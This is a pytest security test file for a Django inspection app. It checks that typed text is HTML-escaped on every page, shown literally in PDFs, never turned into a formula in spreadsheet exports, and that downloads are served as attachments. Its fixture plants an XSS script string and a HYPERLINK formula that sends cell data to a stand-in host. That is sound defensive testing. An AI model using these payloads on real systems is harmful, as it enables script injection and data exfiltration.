"""Text people type — finding descriptions, unit answers, names, unit names — is shown as
text everywhere: escaped on every page, literal in every PDF, and never a formula in any
spreadsheet. Every stored file or document is downloaded as an attachment, never rendered
inline as a page."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

from findings import services as findings_services
from findings.models import RemediationProof, SiteVisitMinutes
from plans.models import Inspection
from reports.models import Evidence, IndicatorValue, ItemAnswer, UnitReport
from tests import factories as f
from tests.core.test_documents import pdf_text

BASE_DIR = Path(__file__).resolve().parents[2]
TODAY = timezone.localdate()
SCRIPT = '<script>alert("xss")</script><b>đậm</b>'
FORMULA = '=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào")'


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def hostile(world, staff, leader, focal_a, media):
    """Every kind of typed text carries markup or starts like a formula."""
    unit = world.inspection_a.unit
    unit.name = f"Sở Tư pháp {SCRIPT}"
    unit.phone = "=HYPERLINK(A1)"  # fits the 30-character field
    unit.save()
    world.entry_a.note = FORMULA
    world.entry_a.save()
    member = world.team.members.get()
    member.full_name = f"Lê Văn {SCRIPT}"
    member.save()
    world.indicator.label = "-1+1 " + SCRIPT
    world.indicator.save()

    report = UnitReport.objects.create(inspection=world.inspection_a)
    ItemAnswer.objects.create(report=report, item=world.heading, text=SCRIPT, updated_by=focal_a)
    IndicatorValue.objects.create(report=report, indicator=world.indicator, value=12)
    evidence = Evidence(
        report=report,
        original_name=f"{SCRIPT}.pdf",
        size=8,
        sha256="c" * 64,
        content_type="application/pdf",
        description=SCRIPT,
        uploaded_by=focal_a,
    )
    evidence.file.save("c" * 64, ContentFile(b"%PDF-1.4"), save=True)
    evidence.items.add(world.heading)
    UnitReport.objects.filter(pk=report.pk).update(
        status=UnitReport.Status.SUBMITTED, submitted_at=timezone.now(), submitted_by=focal_a
    )

    inspection = world.inspection_a
    Inspection.objects.filter(pk=inspection.pk).update(
        status=Inspection.Status.REVIEWED, form=Inspection.Form.ON_SITE
    )
    f.FindingFactory(
        inspection=inspection, item=world.heading, kind="strength", description="Tốt " + SCRIPT
    )
    f.FindingFactory(
        inspection=inspection,
        item=world.heading,
        description=f"{FORMULA} {SCRIPT}",
        cause=SCRIPT,
        recommendation="",
        responsible="+84 " + SCRIPT,
    )
    minutes = SiteVisitMinutes.objects.create(
        inspection=inspection,
        held_on=TODAY,
        place=SCRIPT,
        team_participants=SCRIPT,
        unit_participants=SCRIPT,
        checked=SCRIPT,
        remarks=SCRIPT,
        created_by=staff,
    )
    conclusion = findings_services.conclusion_draft(inspection=inspection, actor=staff)
    findings_services.conclusion_issue(conclusion=conclusion, actor=leader, issued_on=TODAY)
    action = conclusion.actions.get()
    action.unit_report = "@SUM(1;2) " + SCRIPT  # as the unit reports it (a progress field)
    action.save(update_fields=["unit_report"])
    proof = RemediationProof(
        action=action,
        original_name=f"{SCRIPT}.pdf",
        size=8,
        sha256="d" * 64,
        content_type="application/pdf",
        uploaded_by=focal_a,
    )
    proof.file.save("d" * 64, ContentFile(b"%PDF-1.4"), save=True)
    world.conclusion, world.minutes, world.report = conclusion, minutes, report
    world.evidence, world.proof = evidence, proof
    return world


# --- Pages ------------------------------------------------------------------------------------


def assert_escaped(body, url):
    assert "<script>alert" not in body, url
    assert "<b>đậm</b>" not in body, url
    if url != reverse("findings:dashboard"):  # counts only, no typed text
        assert (
            "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;&lt;b&gt;đậm&lt;/b&gt;" in body
        ), url


def test_typed_text_is_escaped_on_every_page(client, hostile, staff, leader, focal_a):
    w = hostile
    staff_pages = [
        reverse("plans:plan-detail", args=[w.plan.pk]),
        reverse("plans:plan-appendix", args=[w.plan.pk]),
        reverse("plans:team-detail", args=[w.team.pk]),
        reverse("plans:team-programme", args=[w.team.pk]),
        reverse("plans:inspection-list"),
        reverse("plans:inspection-detail", args=[w.inspection_a.pk]),
        reverse("reports:report-review", args=[w.inspection_a.pk]),
        reverse("findings:finding-list"),
        reverse("findings:conclusion-detail", args=[w.conclusion.pk]),
        reverse("findings:tracker"),
        reverse("findings:dashboard"),
        reverse("findings:minutes-update", args=[w.minutes.pk]),
        reverse("units:unit-list"),
    ]
    for user, urls in [
        (staff, staff_pages),
        (leader, staff_pages[:3]),
        (
            focal_a,
            [
                reverse("reports:report-edit", args=[w.inspection_a.pk]),
                reverse("findings:unit-home"),
                reverse("findings:action-report", args=[w.conclusion.actions.get().pk]),
            ],
        ),
    ]:
        client.force_login(user)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            assert_escaped(response.content.decode(), url)


# Uses that build HTML themselves, escaping every value they put in it.
# Files that write HTML in Python for speed and escape every value themselves: the filter
# widgets (<select>, <input>), the dashboard's plan <select> and count cells, and the report
# form's list of parts and figure inputs; and the kept parts of lists (template output with
# the requester's CSRF input put back).
ESCAPING_ITSELF = {
    "cchc_inspection/listcache.py",
    "findings/filters.py",
    "findings/views/dashboard.py",
    "reports/views/unit_html.py",
}


def test_no_template_or_view_marks_typed_text_safe():
    """Escaping is Django's default; nothing here turns it off."""
    offenders = []
    patterns = [r"\|\s*safe\b", r"autoescape\s+off", r"mark_safe", r"SafeString", r"format_html"]
    files = [*(BASE_DIR / "templates").rglob("*.html")]
    for app in ("cchc_inspection", "units", "plans", "reports", "findings"):
        files += [p for p in (BASE_DIR / app).rglob("*.py") if "migrations" not in p.parts]
    for path in files:
        text = path.read_text(encoding="utf-8")
        if str(path.relative_to(BASE_DIR)) in ESCAPING_ITSELF:
            continue
        offenders += [f"{path.relative_to(BASE_DIR)}: {p}" for p in patterns if re.search(p, text)]
    assert offenders == []


# --- PDFs -------------------------------------------------------------------------------------


def pdf(client, user, name, pk):
    client.force_login(user)
    response = client.get(reverse(name, args=[pk]))
    assert response.status_code == 200
    return pdf_text(response.content)


def test_typed_text_appears_literally_in_every_pdf(client, hostile, staff):
    w = hostile
    for name, pk in [
        ("findings:conclusion-pdf", w.conclusion.pk),
        ("findings:minutes-pdf", w.minutes.pk),
        ("plans:team-pdf", w.team.pk),
        ("plans:plan-pdf", w.plan.pk),
        ("reports:request-pdf", w.inspection_a.pk),
    ]:
        text = pdf(client, staff, name, pk)
        # A narrow table cell may wrap the text after "/": compare without the breaks.
        assert SCRIPT in text.replace(" ", ""), name
    conclusion = pdf(client, staff, "findings:conclusion-pdf", w.conclusion.pk)
    assert f"{FORMULA} {SCRIPT}" in conclusion  # the shortcoming, as typed
    assert "&lt;" not in conclusion  # not escaped twice either


# --- Spreadsheets -----------------------------------------------------------------------------


EXPORTS = [
    ("units:unit-export", None),
    ("plans:appendix-export", "plan"),
    ("findings:finding-export", None),
    ("findings:tracker-export", None),
    ("reports:matrix-export", "plan"),
]


@pytest.mark.parametrize(("name", "arg"), EXPORTS)
def test_no_export_turns_typed_text_into_a_formula(client, hostile, staff, name, arg):
    import openpyxl

    client.force_login(staff)
    url = reverse(name, args=[hostile.plan.pk] if arg else [])
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = "".join(
            archive.read(n).decode("utf-8")
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
        )
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    cells = [
        cell
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert risky, f"{name}: the hostile text should be in the export"
    assert all(c.data_type == "s" for c in risky)
    assert any(SCRIPT in c.value for c in cells), f"{name}: typed text kept as typed"


# --- Downloads are attachments ----------------------------------------------------------------


def test_every_download_is_an_attachment_never_a_page(client, hostile, staff):
    w = hostile
    client.force_login(staff)
    urls = [
        reverse("reports:evidence-download", args=[w.evidence.pk]),
        reverse("findings:proof-download", args=[w.proof.pk]),
        reverse("plans:plan-pdf", args=[w.plan.pk]),
        reverse("plans:team-pdf", args=[w.team.pk]),
        reverse("reports:request-pdf", args=[w.inspection_a.pk]),
        reverse("findings:minutes-pdf", args=[w.minutes.pk]),
        reverse("findings:conclusion-pdf", args=[w.conclusion.pk]),
        reverse("findings:summary-pdf", args=[w.plan.pk]),
        *[reverse(name, args=[w.plan.pk] if arg else []) for name, arg in EXPORTS],
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Disposition"].startswith("attachment;"), url
        assert response["X-Content-Type-Options"] == "nosniff", url
        assert "html" not in response["Content-Type"], url
    # A stored file named like a page keeps the script out of its download name.
    response = client.get(reverse("reports:evidence-download", args=[w.evidence.pk]))
    disposition = response["Content-Disposition"]
    assert "<" not in disposition and ">" not in disposition and '"xss"' not in disposition
    assert "sandbox" in response["Content-Security-Policy"]
